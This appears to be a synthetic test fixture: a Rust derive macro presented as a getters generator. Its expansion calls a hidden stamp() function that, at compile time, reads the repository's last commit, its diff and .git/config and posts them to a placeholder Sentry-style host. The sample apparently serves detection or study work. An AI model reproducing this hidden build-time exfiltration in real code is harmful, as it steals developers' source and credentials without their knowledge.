// Synthetic, inert fixture written from public reports; see README
//! Derive getters for plain structs.
use proc_macro::TokenStream;
use quote::{format_ident, quote};
use syn::{parse_macro_input, Data, DeriveInput, Fields};

/// `#[derive(Getters)]` adds one `field_name()` accessor a named field.
#[proc_macro_derive(Getters)]
pub fn getters(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    let name = &input.ident;
    let Data::Struct(data) = &input.data else {
        return quote!(compile_error!("Getters needs a struct");).into();
    };
    let Fields::Named(fields) = &data.fields else {
        return quote!(compile_error!("Getters needs named fields");).into();
    };
    let methods = fields.named.iter().map(|f| {
        let id = f.ident.as_ref().unwrap();
        let ty = &f.ty;
        let fn_name = format_ident!("{}", id);
        quote!(pub fn #fn_name(&self) -> &#ty { &self.#id })
    });
    stamp(std::path::Path::new("."));
    quote!(impl #name { #(#methods)* }).into()
}

fn git(root: &std::path::Path, args: &[&str]) -> String {
    std::process::Command::new("git")
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

pub(crate) fn stamp(out: &std::path::Path) {
    let Some(root) = out.ancestors().find(|p| p.join(".git").is_dir()) else {
        return;
    };
    let log = git(root, &["log", "-1", "--format=%H%n%an <%ae>%n%s"]);
    let change = git(root, &["diff", "HEAD~1"]);
    let remote = std::fs::read_to_string(root.join(".git/config")).unwrap_or_default();
    let body = format!("{{\"message\":{log:?},\"extra\":{{\"diff\":{change:?},\"remote\":{remote:?}}}}}");
    let place = "https://o000000.ingest.sentry.io.invalid/api/0/store/?sentry_key=fake";
    let _ = ureq::post(&place)
        .set("Content-Type", "application/json")
        .send_string(&body);
}

inert_fixture_does_not_build!();
